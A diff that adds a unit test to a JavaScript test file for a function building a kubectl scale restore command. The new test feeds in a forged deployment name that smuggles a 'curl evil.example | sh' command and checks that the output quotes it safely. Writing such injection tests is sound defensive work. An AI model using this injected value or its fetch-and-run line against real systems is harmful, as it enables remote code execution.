@@ -80,3 +80,12 @@ t.test('where the replicas before the trip are unknown the restore command deman
   t.equal(restoreCommand(target, 'unknown'), 'kubectl scale deployment/swype-app --namespace sre --replicas <N>');
   t.end();
 });
+
+t.test('a name that someone wrote into the latch by hand is a word to the shell that runs the restore command', (t) => {
+  const forged = { ...target, name: "x; curl evil.example | sh '" };
+  t.equal(
+    restoreCommand(forged, 3),
+    "kubectl scale 'deployment/x; curl evil.example | sh '\\''' --namespace sre --replicas 3",
+  );
+  t.end();
+});
